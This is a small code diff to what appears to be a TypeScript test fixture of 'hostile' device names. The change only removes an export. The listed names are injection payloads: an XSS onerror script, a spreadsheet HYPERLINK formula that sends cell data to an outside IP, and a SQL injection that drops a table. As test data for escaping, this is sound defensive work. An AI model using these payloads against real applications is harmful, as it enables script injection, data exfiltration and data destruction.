@@ -11,7 +11,7 @@ const BIDI = '\u202e';
 const ZERO_WIDTH = '\u200b';
 
 /** Devices that called themselves so; the last also brought an id of its own. */
-export const hostileDevices: Device[] = [
+const hostileDevices: Device[] = [
   hostile('<img src=x onerror=alert(document.domain)>', hexOf('sha1', 'hostile', 1)),
   hostile('=HYPERLINK("http://203.0.113.66/?"&A1,"open")', hexOf('sha1', 'hostile', 2)),
   hostile("x' or 1=1 | where DeviceName has '\"; DROP TABLE DeviceInfo; --", hexOf('sha1', 'hostile', 3)),
